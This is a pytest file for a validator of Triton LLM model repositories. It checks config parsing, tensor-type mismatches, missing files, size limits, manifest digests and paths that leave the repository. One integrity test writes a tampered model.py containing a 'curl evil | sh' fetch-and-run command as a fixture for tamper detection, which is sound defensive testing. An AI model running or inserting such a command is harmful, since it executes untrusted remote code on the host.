"""Tests for tritonrepo.repository.validate on inflight_batcher_llm-shaped repositories built in tmp_path."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from tritonrepo.errors import ValidationError
from tritonrepo.repository.validate import Problem, _parse_error_position, check_repository, validate_repository

ENSEMBLE = """\
name: "ensemble"
platform: "ensemble"
max_batch_size: {ensemble_max_batch_size}
input [
  {{
    name: "text_input"
    data_type: TYPE_STRING
    dims: [ 1 ]
  }},
  {{
    name: "max_tokens"
    data_type: TYPE_INT32
    dims: [ 1 ]
  }},
  {{
    name: "end_id"
    data_type: TYPE_INT32
    dims: [ 1 ]
    optional: true
  }},
  {{
    name: "stream"
    data_type: TYPE_BOOL
    dims: [ 1 ]
    optional: true
  }}
]
output [
  {{
    name: "text_output"
    data_type: TYPE_STRING
    dims: [ -1 ]
  }}
]
ensemble_scheduling {{
  step [
    {{
      model_name: "preprocessing"
      model_version: -1
      input_map {{
        key: "QUERY"
        value: "text_input"
      }}
      input_map {{
        key: "REQUEST_OUTPUT_LEN"
        value: "max_tokens"
      }}
      input_map {{
        key: "END_ID"
        value: "end_id"
      }}
      output_map {{
        key: "REQUEST_INPUT_LEN"
        value: "_REQUEST_INPUT_LEN"
      }}
      output_map {{
        key: "INPUT_ID"
        value: "_INPUT_ID"
      }}
      output_map {{
        key: "REQUEST_OUTPUT_LEN"
        value: "_REQUEST_OUTPUT_LEN"
      }}
      output_map {{
        key: "OUT_END_ID"
        value: "_END_ID"
      }}
    }},
    {{
      model_name: "tensorrt_llm"
      model_version: -1
      input_map {{
        key: "input_ids"
        value: "_INPUT_ID"
      }}
      input_map {{
        key: "input_lengths"
        value: "_REQUEST_INPUT_LEN"
      }}
      input_map {{
        key: "request_output_len"
        value: "_REQUEST_OUTPUT_LEN"
      }}
      input_map {{
        key: "end_id"
        value: "_END_ID"
      }}
      input_map {{
        key: "streaming"
        value: "stream"
      }}
      output_map {{
        key: "output_ids"
        value: "_TOKENS_BATCH"
      }}
      output_map {{
        key: "sequence_length"
        value: "_SEQUENCE_LENGTH"
      }}
    }},
    {{
      model_name: "postprocessing"
      model_version: -1
      input_map {{
        key: "TOKENS_BATCH"
        value: "_TOKENS_BATCH"
      }}
      input_map {{
        key: "SEQUENCE_LENGTH"
        value: "_SEQUENCE_LENGTH"
      }}
      output_map {{
        key: "OUTPUT"
        value: "text_output"
      }}
    }}
  ]
}}
"""

PREPROCESSING = """\
name: "preprocessing"
backend: "python"
max_batch_size: {max_batch_size}
input [
  {{ name: "QUERY" data_type: TYPE_STRING dims: [ 1 ] }},
  {{ name: "REQUEST_OUTPUT_LEN" data_type: TYPE_INT32 dims: [ 1 ] }},
  {{ name: "END_ID" data_type: TYPE_INT32 dims: [ 1 ] optional: true }}
]
output [
  {{ name: "INPUT_ID" data_type: TYPE_INT32 dims: [ -1 ] }},
  {{ name: "REQUEST_INPUT_LEN" data_type: TYPE_INT32 dims: [ 1 ] }},
  {{ name: "REQUEST_OUTPUT_LEN" data_type: TYPE_INT32 dims: [ 1 ] }},
  {{ name: "OUT_END_ID" data_type: TYPE_INT32 dims: [ 1 ] }}
]
parameters {{
  key: "tokenizer_dir"
  value: {{ string_value: "{tokenizer_dir}" }}
}}
parameters {{
  key: "add_special_tokens"
  value: {{ string_value: "true" }}
}}
instance_group [ {{ count: 1 kind: KIND_CPU }} ]
"""

TENSORRT_LLM = """\
name: "tensorrt_llm"
backend: "tensorrtllm"
max_batch_size: {max_batch_size}
model_transaction_policy {{
  decoupled: false
}}
input [
  {{ name: "input_ids" data_type: TYPE_INT32 dims: [ -1 ] allow_ragged_batch: true }},
  {{ name: "input_lengths" data_type: {input_lengths_type} dims: [ 1 ] reshape: {{ shape: [ ] }} }},
  {{ name: "request_output_len" data_type: TYPE_INT32 dims: [ 1 ] reshape: {{ shape: [ ] }} }},
  {{ name: "end_id" data_type: TYPE_INT32 dims: [ 1 ] reshape: {{ shape: [ ] }} optional: true }},
  {{ name: "streaming" data_type: TYPE_BOOL dims: [ 1 ] optional: true }}
]
output [
  {{ name: "output_ids" data_type: TYPE_INT32 dims: [ -1, -1 ] }},
  {{ name: "sequence_length" data_type: TYPE_INT32 dims: [ -1 ] }},
  {{ name: "cum_log_probs" data_type: TYPE_FP32 dims: [ -1 ] }}
]
instance_group [ {{ count: 1 kind: KIND_CPU }} ]
parameters: {{
  key: "gpt_model_type"
  value: {{ string_value: "inflight_fused_batching" }}
}}
parameters: {{
  key: "gpt_model_path"
  value: {{
    string_value: "{engine_dir}"
  }}
}}
parameters: {{
  key: "executor_worker_path"
  value: {{ string_value: "/opt/tritonserver/backends/tensorrtllm/trtllmExecutorWorker" }}
}}
"""

POSTPROCESSING = """\
name: "postprocessing"
backend: "python"
max_batch_size: {max_batch_size}
input [
  {{ name: "TOKENS_BATCH" data_type: TYPE_INT32 dims: [ -1, -1 ] }},
  {{ name: "SEQUENCE_LENGTH" data_type: TYPE_INT32 dims: [ -1 ] }}
]
output [
  {{ name: "OUTPUT" data_type: TYPE_STRING dims: [ -1 ] }}
]
parameters {{
  key: "tokenizer_dir"
  value: {{ string_value: "{tokenizer_dir}" }}
}}
instance_group [ {{ count: 1 kind: KIND_CPU }} ]
"""

BLS = """\
name: "tensorrt_llm_bls"
backend: "python"
max_batch_size: {max_batch_size}
model_transaction_policy {{ decoupled: false }}
input [
  {{ name: "text_input" data_type: TYPE_STRING dims: [ 1 ] }},
  {{ name: "max_tokens" data_type: TYPE_INT32 dims: [ 1 ] }},
  {{ name: "stream" data_type: TYPE_BOOL dims: [ 1 ] optional: true }}
]
output [
  {{ name: "text_output" data_type: TYPE_STRING dims: [ -1 ] }}
]
parameters: {{
  key: "tensorrt_llm_model_name"
  value: {{ string_value: "{llm_model_name}" }}
}}
parameters: {{
  key: "tensorrt_llm_draft_model_name"
  value: {{ string_value: "" }}
}}
instance_group [ {{ count: 1 kind: KIND_CPU }} ]
"""


def build_repository(
    tmp_path: Path,
    *,
    max_batch_size: int = 8,
    ensemble_max_batch_size: int | None = None,
    input_lengths_type: str = "TYPE_INT32",
    tokenizer_dir: str | None = None,
    tokenizer_files: tuple[str, ...] = ("tokenizer.json", "tokenizer_config.json"),
    engine_files: tuple[str, ...] = ("config.json", "rank0.engine"),
    llm_model_name: str = "tensorrt_llm",
    with_model_py: bool = True,
) -> Path:
    """A five-model inflight_batcher_llm repository at tmp_path/repo, its tokenizer and engine inside it (the engine by
    absolute path, as the tensorrtllm backend needs); each keyword can break one aspect of it."""
    root = tmp_path / "repo"
    tokenizer = root / "preprocessing" / "1" / "tokenizer"
    tokenizer.mkdir(parents=True)
    for name in tokenizer_files:
        (tokenizer / name).write_text("{}")
    engine = root / "tensorrt_llm" / "1" / "engine"
    engine.mkdir(parents=True)
    for name in engine_files:
        (engine / name).write_bytes(b"")
    values = {
        "max_batch_size": max_batch_size,
        "ensemble_max_batch_size": max_batch_size if ensemble_max_batch_size is None else ensemble_max_batch_size,
        "input_lengths_type": input_lengths_type,
        "tokenizer_dir": str(tokenizer) if tokenizer_dir is None else tokenizer_dir,
        "engine_dir": str(engine),
        "llm_model_name": llm_model_name,
    }
    templates = {
        "ensemble": ENSEMBLE,
        "preprocessing": PREPROCESSING,
        "tensorrt_llm": TENSORRT_LLM,
        "postprocessing": POSTPROCESSING,
        "tensorrt_llm_bls": BLS,
    }
    for name, template in templates.items():
        version = root / name / "1"
        version.mkdir(parents=True, exist_ok=True)
        (root / name / "config.pbtxt").write_text(template.format(**values))
        if with_model_py and name in ("preprocessing", "postprocessing", "tensorrt_llm_bls"):
            (version / "model.py").write_text("class TritonPythonModel:\n    pass\n")
    return root


def edit(root: Path, model: str, old: str, new: str) -> None:
    config = root / model / "config.pbtxt"
    text = config.read_text()
    assert old in text, f"{old!r} not in {config}"
    config.write_text(text.replace(old, new, 1))


def line_of(root: Path, model: str, needle: str, after: str | None = None) -> int:
    """1-based line of the first `needle` in a model's config.pbtxt (after the line holding `after`, if given)."""
    lines = (root / model / "config.pbtxt").read_text().splitlines()
    start = next(i for i, line in enumerate(lines) if after in line) if after else 0
    return next(i for i in range(start, len(lines)) if needle in lines[i]) + 1


def test_good_repository_has_no_problems(tmp_path: Path) -> None:
    root = build_repository(tmp_path)
    assert validate_repository(root) == []
    check_repository(root)


def test_unfilled_placeholder_reports_file_line_and_variable(tmp_path: Path) -> None:
    root = build_repository(tmp_path)
    edit(root, "preprocessing", "max_batch_size: 8", "max_batch_size: ${triton_max_batch_size}")
    problems = validate_repository(root)
    assert len(problems) == 1, problems
    problem = problems[0]
    assert problem.file == "preprocessing/config.pbtxt"
    assert problem.line == 3
    assert "${triton_max_batch_size}" in problem.message
    assert "fill_template.py" in problem.message and "cannot parse" in problem.message


def test_placeholder_inside_string_is_reported_without_a_path_problem(tmp_path: Path) -> None:
    root = build_repository(tmp_path, tokenizer_dir="${tokenizer_dir}")
    problems = validate_repository(root)
    assert [(p.file, p.line) for p in problems] == [
        ("postprocessing/config.pbtxt", line_of(root, "postprocessing", "${tokenizer_dir}")),
        ("preprocessing/config.pbtxt", line_of(root, "preprocessing", "${tokenizer_dir}")),
    ]
    assert all("${tokenizer_dir} (the model reads the literal text)" in p.message for p in problems)


def test_placeholder_in_a_comment_is_ignored(tmp_path: Path) -> None:
    root = build_repository(tmp_path)
    edit(root, "preprocessing", 'backend: "python"', 'backend: "python"  # was ${triton_backend}')
    assert validate_repository(root) == []


def test_syntax_error_is_reported_with_its_line(tmp_path: Path) -> None:
    root = build_repository(tmp_path)
    edit(root, "postprocessing", 'backend: "python"', 'backend "python" }')
    problems = [p for p in validate_repository(root) if p.file == "postprocessing/config.pbtxt"]
    assert len(problems) == 1, problems
    assert problems[0].line == 2
    assert "does not parse" in problems[0].message
    assert not problems[0].message.startswith("2:")


def test_parse_error_position_from_message_text() -> None:
    line, message = _parse_error_position(ValueError('7:3 : Expected "}".'))
    assert (line, message) == (7, 'Expected "}".')


def test_data_type_mismatch_names_both_models_and_types(tmp_path: Path) -> None:
    root = build_repository(tmp_path, input_lengths_type="TYPE_INT64")
    problems = validate_repository(root)
    assert len(problems) == 1, problems
    problem = problems[0]
    assert problem.file == "ensemble/config.pbtxt"
    assert problem.line == line_of(root, "ensemble", 'value: "_REQUEST_INPUT_LEN"', after='model_name: "tensorrt_llm"')
    for word in ("preprocessing", "REQUEST_INPUT_LEN", "TYPE_INT32", "tensorrt_llm", "input_lengths", "TYPE_INT64"):
        assert word in problem.message


def test_ensemble_input_type_mismatch(tmp_path: Path) -> None:
    root = build_repository(tmp_path)
    edit(
        root,
        "preprocessing",
        '"REQUEST_OUTPUT_LEN" data_type: TYPE_INT32',
        '"REQUEST_OUTPUT_LEN" data_type: TYPE_UINT32',
    )
    messages = [p.message for p in validate_repository(root)]
    assert any("ensemble input max_tokens is TYPE_INT32" in m and "TYPE_UINT32" in m for m in messages), messages


def test_input_map_key_that_is_not_an_input(tmp_path: Path) -> None:
    root = build_repository(tmp_path)
    edit(root, "ensemble", 'key: "END_ID"', 'key: "END_IDS"')
    problems = validate_repository(root)
    assert len(problems) == 1, problems
    assert problems[0].line == line_of(root, "ensemble", 'key: "END_IDS"')
    assert '"END_IDS" is not an input of model "preprocessing"' in problems[0].message


def test_output_map_key_that_is_not_an_output(tmp_path: Path) -> None:
    root = build_repository(tmp_path)
    edit(root, "ensemble", 'key: "sequence_length"', 'key: "sequence_lengths"')
    problems = validate_repository(root)
    assert len(problems) == 1, problems
    assert problems[0].line == line_of(root, "ensemble", 'key: "sequence_lengths"')
    assert 'not an output of model "tensorrt_llm"' in problems[0].message


def test_same_key_in_input_and_output_map_gets_the_output_line(tmp_path: Path) -> None:
    root = build_repository(tmp_path)
    output = '{ name: "REQUEST_OUTPUT_LEN" data_type: TYPE_INT32 dims: [ 1 ] },\n  { name: "OUT_END_ID"'
    edit(root, "preprocessing", output, output.replace("TYPE_INT32", "TYPE_INT64"))
    problems = validate_repository(root)
    assert len(problems) == 1, problems
    assert problems[0].line == line_of(
        root, "ensemble", 'value: "_REQUEST_OUTPUT_LEN"', after='model_name: "tensorrt_llm"'
    )
    assert "preprocessing output REQUEST_OUTPUT_LEN is TYPE_INT64" in problems[0].message


def test_missing_step_model(tmp_path: Path) -> None:
    root = build_repository(tmp_path)
    shutil.rmtree(root / "postprocessing")
    problems = validate_repository(root)
    assert len(problems) == 1, problems
    assert problems[0].file == "ensemble/config.pbtxt"
    assert problems[0].line == line_of(root, "ensemble", 'model_name: "postprocessing"')
    assert 'step model "postprocessing" is not in the repository' in problems[0].message


def test_unmapped_required_input_and_unconnected_tensor(tmp_path: Path) -> None:
    root = build_repository(tmp_path)
    edit(
        root,
        "ensemble",
        'key: "SEQUENCE_LENGTH"\n        value: "_SEQUENCE_LENGTH"',
        'key: "SEQUENCE_LENGTH"\n        value: "_NOWHERE"',
    )
    messages = [p.message for p in validate_repository(root)]
    assert any('"_NOWHERE"' in m and "neither an ensemble input" in m for m in messages), messages
    assert any('ensemble tensor "_SEQUENCE_LENGTH" is written but never used' in m for m in messages), messages


def test_unused_ensemble_input_and_unwritten_output(tmp_path: Path) -> None:
    root = build_repository(tmp_path)
    edit(root, "ensemble", 'key: "OUTPUT"\n        value: "text_output"', 'key: "OUTPUT"\n        value: "_TEXT"')
    edit(root, "ensemble", 'key: "END_ID"\n        value: "end_id"', 'key: "END_ID"\n        value: "stream"')
    messages = [p.message for p in validate_repository(root)]
    assert any('ensemble input "end_id" is not used' in m for m in messages), messages
    assert any('ensemble output "text_output" is not written' in m for m in messages), messages
    assert any("stream" in m and "TYPE_BOOL" in m for m in messages), messages


def test_missing_required_input_mapping(tmp_path: Path) -> None:
    root = build_repository(tmp_path)
    edit(
        root,
        "ensemble",
        '      input_map {\n        key: "request_output_len"\n        value: "_REQUEST_OUTPUT_LEN"\n      }\n',
        "",
    )
    messages = [p.message for p in validate_repository(root)]
    assert any('required input "request_output_len" of model "tensorrt_llm" is not mapped' in m for m in messages)


def test_missing_tokenizer_dir(tmp_path: Path) -> None:
    missing = tmp_path / "repo" / "preprocessing" / "1" / "no-such-tokenizer"
    root = build_repository(tmp_path, tokenizer_dir=str(missing))
    problems = validate_repository(root)
    assert {p.file for p in problems} == {"preprocessing/config.pbtxt", "postprocessing/config.pbtxt"}
    pre = next(p for p in problems if p.file == "preprocessing/config.pbtxt")
    assert pre.line == line_of(root, "preprocessing", 'key: "tokenizer_dir"')
    assert "does not exist" in pre.message and str(missing) in pre.message


def test_tokenizer_dir_without_tokenizer_files(tmp_path: Path) -> None:
    root = build_repository(tmp_path, tokenizer_files=("README.md",))
    problems = validate_repository(root)
    assert len(problems) == 2
    assert all("no tokenizer files" in p.message for p in problems)


def test_relative_tokenizer_path_resolves_against_the_root(tmp_path: Path) -> None:
    root = build_repository(tmp_path, tokenizer_dir="preprocessing/1/tokenizer")
    assert validate_repository(root) == []
    (tmp_path / "second").mkdir()
    inside = build_repository(tmp_path / "second", tokenizer_dir="preprocessing/1/tok")
    problems = validate_repository(inside)
    assert problems and all("relative paths resolve against the repository root" in p.message for p in problems)
    shutil.copytree(inside / "preprocessing" / "1" / "tokenizer", inside / "preprocessing" / "1" / "tok")
    assert validate_repository(inside) == []


def test_engine_dir_without_engine(tmp_path: Path) -> None:
    root = build_repository(tmp_path, engine_files=("config.json",))
    problems = validate_repository(root)
    assert len(problems) == 1, problems
    assert problems[0].file == "tensorrt_llm/config.pbtxt"
    assert problems[0].line == line_of(root, "tensorrt_llm", 'key: "gpt_model_path"')
    assert "*.engine" in problems[0].message and "config.json" not in problems[0].message


def test_name_mismatch(tmp_path: Path) -> None:
    root = build_repository(tmp_path)
    edit(root, "postprocessing", 'name: "postprocessing"', 'name: "postprocess"')
    problems = validate_repository(root)
    assert len(problems) == 1, problems
    assert (problems[0].file, problems[0].line) == ("postprocessing/config.pbtxt", 1)
    assert '"postprocess"' in problems[0].message


def test_missing_version_directory(tmp_path: Path) -> None:
    root = build_repository(tmp_path)
    shutil.rmtree(root / "ensemble" / "1")
    problems = validate_repository(root)
    assert [(p.file, p.line) for p in problems] == [("ensemble", None)]
    assert "version directory" in problems[0].message


def test_python_model_without_model_py(tmp_path: Path) -> None:
    root = build_repository(tmp_path)
    (root / "tensorrt_llm_bls" / "1" / "model.py").unlink()
    problems = validate_repository(root)
    assert [p.file for p in problems] == ["tensorrt_llm_bls/1/model.py"]


def test_default_model_filename_is_honoured(tmp_path: Path) -> None:
    root = build_repository(tmp_path)
    edit(root, "tensorrt_llm_bls", 'backend: "python"', 'backend: "python"\ndefault_model_filename: "bls.py"')
    assert [p.file for p in validate_repository(root)] == ["tensorrt_llm_bls/1/bls.py"]
    (root / "tensorrt_llm_bls" / "1" / "bls.py").write_text("")
    assert validate_repository(root) == []


def test_ensemble_batch_size_larger_than_a_step(tmp_path: Path) -> None:
    root = build_repository(tmp_path)
    edit(root, "ensemble", "max_batch_size: 8", "max_batch_size: 16")
    problems = validate_repository(root)
    assert len(problems) == 3, problems
    assert {p.line for p in problems} == {
        line_of(root, "ensemble", f'model_name: "{m}"') for m in ("preprocessing", "tensorrt_llm", "postprocessing")
    }
    assert all("max_batch_size 16 exceeds" in p.message for p in problems)


def test_bls_names_a_missing_llm_model(tmp_path: Path) -> None:
    root = build_repository(tmp_path, llm_model_name="trt_llm")
    problems = validate_repository(root)
    assert len(problems) == 1, problems
    assert problems[0].line == line_of(root, "tensorrt_llm_bls", 'key: "tensorrt_llm_model_name"')
    assert '"trt_llm"' in problems[0].message


def test_tensor_shape_and_type_sanity(tmp_path: Path) -> None:
    root = build_repository(tmp_path)
    edit(
        root,
        "postprocessing",
        '"OUTPUT" data_type: TYPE_STRING dims: [ -1 ]',
        '"OUTPUT" data_type: TYPE_INVALID dims: [ ]',
    )
    edit(
        root,
        "postprocessing",
        '"SEQUENCE_LENGTH" data_type: TYPE_INT32 dims: [ -1 ]',
        '"SEQUENCE_LENGTH" data_type: TYPE_INT32 dims: [ 0 ]',
    )
    messages = [p.message for p in validate_repository(root) if p.file == "postprocessing/config.pbtxt"]
    assert any('output "OUTPUT" has no data_type' in m for m in messages), messages
    assert any('output "OUTPUT" has empty dims' in m for m in messages), messages
    assert any('input "SEQUENCE_LENGTH" dims [0]' in m for m in messages), messages


def test_empty_reshape_needs_batching(tmp_path: Path) -> None:
    root = build_repository(tmp_path, max_batch_size=0)
    problems = validate_repository(root)
    assert problems and all(p.file == "tensorrt_llm/config.pbtxt" for p in problems)
    assert all("empty reshape" in p.message for p in problems)


def test_directory_without_config(tmp_path: Path) -> None:
    root = build_repository(tmp_path)
    (root / "tokenizer").mkdir()
    problems = validate_repository(root)
    assert [(p.file, p.line) for p in problems] == [("tokenizer", None)]
    assert "no config.pbtxt" in problems[0].message


def test_missing_root(tmp_path: Path) -> None:
    problems = validate_repository(tmp_path / "absent")
    assert len(problems) == 1 and "does not exist" in problems[0].message


def test_check_repository_raises_with_every_problem(tmp_path: Path) -> None:
    root = build_repository(tmp_path, input_lengths_type="TYPE_INT64", engine_files=())
    edit(root, "ensemble", 'name: "ensemble"', 'name: "ensemble_model"')
    expected = [str(p) for p in validate_repository(root)]
    assert len(expected) == 3
    with pytest.raises(ValidationError) as raised:
        check_repository(root)
    assert raised.value.exit_code == 4
    assert raised.value.problems == expected
    assert all(problem in str(raised.value) for problem in expected)
    assert str(root) in str(raised.value)


def test_problems_are_sorted_and_formatted(tmp_path: Path) -> None:
    root = build_repository(tmp_path, input_lengths_type="TYPE_INT64", llm_model_name="missing")
    edit(root, "preprocessing", 'name: "preprocessing"', 'name: "pre"')
    problems = validate_repository(root)
    assert problems == sorted(problems, key=lambda p: (p.file, p.line or 0, p.message))
    assert [p.file for p in problems] == [
        "ensemble/config.pbtxt",
        "preprocessing/config.pbtxt",
        "tensorrt_llm_bls/config.pbtxt",
    ]
    assert str(Problem("a/config.pbtxt", 12, "bad")) == "a/config.pbtxt:12: bad"
    assert str(Problem("a", None, "bad")) == "a: bad"


# --- scaling (issue 12, item 13): asserted by structure and memory, never by time -----------------------------------
def _add_parameters(root: Path, model: str, count: int) -> None:
    config = root / model / "config.pbtxt"
    extra = "".join(
        f'parameters {{\n  key: "setting_{i}"\n  value: {{ string_value: "value {i}" }}\n}}\n' for i in range(count)
    )
    config.write_text(config.read_text() + extra)


def test_each_config_is_scanned_once_however_many_parameters_it_has(tmp_path: Path, monkeypatch) -> None:
    """Every line lookup is answered from one index per config; a scan per finding made 8,000 parameters take
    minutes. The counting doubles wrap the index and the per-line comment stripping it is built from."""
    from tritonrepo.repository import config_lines, validate

    root = build_repository(tmp_path)
    _add_parameters(root, "preprocessing", 3000)
    edit(root, "preprocessing", 'key: "setting_2999"', 'key: "setting_2999_dir"')  # a path problem on the last one
    built, stripped = [], []
    real_code_part, real_index = config_lines.code_part, validate.ConfigLines

    def counting_code_part(line: str) -> str:
        stripped.append(line)
        return real_code_part(line)

    def counting_index(lines):
        built.append(len(lines))
        return real_index(lines)

    monkeypatch.setattr(config_lines, "code_part", counting_code_part)
    monkeypatch.setattr(validate, "ConfigLines", counting_index)
    problems = validate_repository(root)
    assert len(built) == 5  # one index per model
    total_lines = sum(len((root / m / "config.pbtxt").read_text().splitlines()) for m in ("ensemble", "preprocessing",
                      "tensorrt_llm", "postprocessing", "tensorrt_llm_bls"))  # fmt: skip
    assert len(stripped) == total_lines == sum(built)  # each line looked at once, whatever was looked up
    assert [(p.file, p.line) for p in problems] == [
        ("preprocessing/config.pbtxt", line_of(root, "preprocessing", 'key: "setting_2999_dir"'))
    ]


def test_a_config_above_the_size_limit_is_refused_without_parsing_it(tmp_path: Path, monkeypatch) -> None:
    from tritonrepo.repository import validate
    from tritonrepo.repository.limits import MAX_CONFIG_BYTES

    root = build_repository(tmp_path)
    blob = "x" * (MAX_CONFIG_BYTES + 1)
    edit(root, "postprocessing", 'instance_group', f'parameters {{ key: "blob" value: {{ string_value: "{blob}" }} }}\n'
         "instance_group")  # fmt: skip
    indexed = []
    monkeypatch.setattr(validate, "ConfigLines", lambda lines: indexed.append(lines) or config_index(lines))
    problems = validate_repository(root)
    assert len(indexed) == 4  # every model but the oversized one
    over = [p for p in problems if p.file == "postprocessing/config.pbtxt"]
    assert len(over) == 1 and f"above the limit of {MAX_CONFIG_BYTES:,}" in over[0].message
    assert f"{(root / 'postprocessing/config.pbtxt').stat().st_size:,} bytes" in over[0].message


def config_index(lines):
    from tritonrepo.repository.config_lines import ConfigLines

    return ConfigLines(lines)


def test_a_long_string_is_checked_in_memory_proportional_to_it(tmp_path: Path) -> None:
    """The quoted-string patterns ran a backtracking repeat per character: about 130 bytes of regex stack for each
    byte of a long string (a 50 MB string took 6 GB). Now the peak stays a small multiple of the string."""
    import tracemalloc

    root = build_repository(tmp_path)
    size = 2_000_000
    edit(root, "postprocessing", 'key: "tokenizer_dir"', 'key: "blob"\n  value: { string_value: "' + "x" * size +
         '" }\n}\nparameters {\n  key: "tokenizer_dir"')  # fmt: skip
    validate_repository(root)  # imports and caches first: they are not what is measured
    tracemalloc.start()
    try:
        assert validate_repository(root) == []
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 20 * size, f"peak {peak / 1e6:.0f} MB for a {size / 1e6:.0f} MB string"


# --- trust (issue 12, item 14): digests, paths that leave the repository, absurd sizes ------------------------------
def _with_manifest(root: Path) -> Path:
    from tritonrepo.repository.manifest import file_digests, write_manifest

    write_manifest(root, {"format": 1, "files": file_digests(root)})
    return root


def test_a_changed_missing_or_added_file_is_named_against_the_manifest(tmp_path: Path) -> None:
    root = _with_manifest(build_repository(tmp_path))
    assert validate_repository(root) == []
    code = root / "tensorrt_llm_bls" / "1" / "model.py"
    code.write_text(code.read_text().replace("pass", "1/0 "))  # same size, other bytes
    (root / "postprocessing" / "1" / "model.py").unlink()
    (root / "preprocessing" / "1" / "model.py").write_text("import os\nos.system('curl evil | sh')\n")
    (root / "preprocessing" / "2").mkdir()
    (root / "preprocessing" / "2" / "model.py").write_text("class TritonPythonModel:\n    pass\n")
    problems = {p.file: p.message for p in validate_repository(root) if p.file.endswith(".py")}
    assert problems["tensorrt_llm_bls/1/model.py"].startswith("changed since the build: sha256 ")
    assert problems["preprocessing/1/model.py"].startswith("changed since the build: ")
    assert "tritonrepo.json says" in problems["preprocessing/1/model.py"]
    assert problems["preprocessing/2/model.py"].startswith("not listed in tritonrepo.json: added after the build")
    assert any(p.startswith("missing: tritonrepo.json lists it") for f, p in problems.items() if f.startswith("post"))


def test_without_a_manifest_or_its_digests_nothing_is_compared(tmp_path: Path) -> None:
    root = build_repository(tmp_path)  # as upstream's tools make it
    (root / "preprocessing" / "1" / "extra.py").write_text("")
    assert validate_repository(root) == []
    (root / "tritonrepo.json").write_text('{"entry_points": ["ensemble"]}')  # hand-written, vouches for no file
    assert validate_repository(root) == []
    (root / "tritonrepo.json").write_text("{not json")
    assert [p.file for p in validate_repository(root)] == ["tritonrepo.json"]


def test_large_files_go_through_the_digest_memo_and_small_ones_are_hashed_every_time(tmp_path, monkeypatch) -> None:
    from tritonrepo.repository import integrity
    from tritonrepo.repository.manifest import sha256_file

    root = _with_manifest(build_repository(tmp_path))
    engine = root / "tensorrt_llm" / "1" / "engine" / "rank0.engine"
    engine.write_bytes(b"0" * 64)
    root = _with_manifest(root)
    monkeypatch.setattr(integrity, "ALWAYS_HASHED_BELOW", 50)  # the engine counts as large, the rest as small

    class RecordingMemo:
        asked: list = []

        def of(self, path: Path) -> str:
            self.asked.append(Path(path).relative_to(root).as_posix())
            return sha256_file(path)

    memo = RecordingMemo()
    assert validate_repository(root, digests=memo) == []
    assert memo.asked == ["tensorrt_llm/1/engine/rank0.engine"]
    engine.write_bytes(b"1" * 64)
    assert [p.file for p in validate_repository(root, digests=memo)] == ["tensorrt_llm/1/engine/rank0.engine"]


def test_the_digest_memo_being_unwritable_or_corrupt_is_no_error(tmp_path: Path, monkeypatch) -> None:
    # validate (and so serve) must not crash where the cache cannot be written (a read-only container) or its memo
    # is damaged: the memo only saves hashing again.
    from tritonrepo.repository import integrity

    root = _with_manifest(build_repository(tmp_path / "r"))
    monkeypatch.setattr(integrity, "ALWAYS_HASHED_BELOW", 1)  # every file goes through the memo
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    monkeypatch.setenv("TRITONREPO_CACHE", str(blocker / "cache"))  # under a file: no folder can be made there
    assert validate_repository(root) == []
    cache = tmp_path / "cache"
    cache.mkdir()
    (cache / "file-digests.json").write_text('{"truncated": [1, ')
    monkeypatch.setenv("TRITONREPO_CACHE", str(cache))
    assert validate_repository(root) == []
    assert json.loads((cache / "file-digests.json").read_text())  # replaced by a good one


def test_a_folder_link_inside_the_repository_adds_no_file(tmp_path: Path) -> None:
    # The manifest is made by a walk that never enters folder links; the check walks the same way, so a link to a
    # folder inside the repository is not mistaken for files added after the build.
    root = build_repository(tmp_path)
    (root / "preprocessing" / "1" / "alias").symlink_to("tokenizer")
    root = _with_manifest(root)
    assert validate_repository(root) == []
    (root / "preprocessing" / "1" / "outside").symlink_to(tmp_path.parent)
    assert [p.message.split(",")[0] for p in validate_repository(root)] == [f"is a link to {tmp_path.parent}"]


@pytest.mark.parametrize("where", ["absolute", "dot-dot", "model-directory", "link"])
def test_a_tokenizer_outside_the_repository_is_refused(tmp_path: Path, where: str) -> None:
    """Another model's tokenizer (or weights) served under this model's name."""
    other = tmp_path / "other-model" / "tokenizer"
    other.mkdir(parents=True)
    (other / "tokenizer.json").write_text("{}")
    values = {
        "absolute": str(other),
        "dot-dot": "../other-model/tokenizer",
        "model-directory": "$$TRITON_MODEL_DIRECTORY/../../other-model/tokenizer",
        "link": "preprocessing/1/linked",
    }
    root = build_repository(tmp_path, tokenizer_dir=values[where])
    (root / "preprocessing" / "1" / "linked").symlink_to(other)
    problems = validate_repository(root)
    on_tokenizer = [p for p in problems if "tokenizer_dir" in p.message]
    assert {p.file for p in on_tokenizer} == {"preprocessing/config.pbtxt", "postprocessing/config.pbtxt"}
    assert all(f"resolves to {other}, outside the repository" in p.message for p in on_tokenizer)
    links = [p for p in problems if p.file == "preprocessing/1/linked"]  # the link itself, whoever reads it
    assert len(links) == 1 and f"is a link to {other}, outside the repository" in links[0].message


def test_paths_inside_the_repository_may_be_absolute_or_relative(tmp_path: Path) -> None:
    root = build_repository(tmp_path, tokenizer_dir="$$TRITON_MODEL_DIRECTORY/../preprocessing/1/tokenizer")
    assert validate_repository(root) == []
    (root / "preprocessing" / "1" / "alias").symlink_to(root / "preprocessing" / "1" / "tokenizer")
    assert validate_repository(root) == []  # a link that stays inside is fine


def test_an_llmapi_checkpoint_outside_the_repository_is_refused_and_a_hub_id_is_not_a_path(tmp_path: Path) -> None:
    from tritonrepo.pytorch_path.triton_repo import render_llmapi_repository

    outside = tmp_path / "weights"
    outside.mkdir()
    for model, refused in ((str(outside), True), ("../weights", True), ("deepseek-ai/DeepSeek-R1", False)):
        root = tmp_path / f"repo-{len(model)}"
        files = render_llmapi_repository({"model": model, "backend": "pytorch"}, triton_max_batch_size=0)
        for relative, text in files.items():
            (root / relative).parent.mkdir(parents=True, exist_ok=True)
            (root / relative).write_text(text)
        messages = [p.message for p in validate_repository(root)]
        assert any("outside the repository" in m for m in messages) == refused, (model, messages)


def test_absurd_sizes_are_refused_with_the_number_and_the_limit(tmp_path: Path) -> None:
    from tritonrepo.repository import limits

    root = build_repository(tmp_path)
    edit(root, "postprocessing", "count: 1", "count: 1000000")
    edit(root, "preprocessing", "max_batch_size: 8", "max_batch_size: 2147483647")
    edit(root, "tensorrt_llm", '"input_ids" data_type: TYPE_INT32 dims: [ -1 ]',
         '"input_ids" data_type: TYPE_INT32 dims: [ 9223372036854775807 ]')  # fmt: skip
